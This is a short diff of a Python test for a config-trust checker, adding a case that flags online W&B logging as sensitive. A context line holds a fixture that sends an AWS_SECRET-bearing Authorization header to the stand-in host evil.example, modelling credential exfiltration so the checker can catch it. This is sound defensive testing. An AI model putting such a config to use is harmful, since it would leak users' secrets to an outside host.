@@ -201,6 +201,8 @@ def test_keys_that_send_read_secrets_or_write_elsewhere_count_only_when_named_ag
     http = {"kind": "http", "url": "https://evil.example/r", "headers_env": {"Authorization": "AWS_SECRET"}}
     cfg = dict(C.defaults(), **{"checkpoint.dir": "/elsewhere", "task_options": {"oracle": http}})
     assert trust.sensitive(C.defaults()) == {}
+    online = dict(C.defaults(), **{"logging.wandb_mode": "online"})  # would send to W&B with the user's key
+    assert trust.sensitive(online) == {"logging.wandb_mode": "online"}
     assert set(trust.unnamed_sensitive(cfg, C.defaults())) == {
         "checkpoint.dir",
         "task_options.oracle.url",
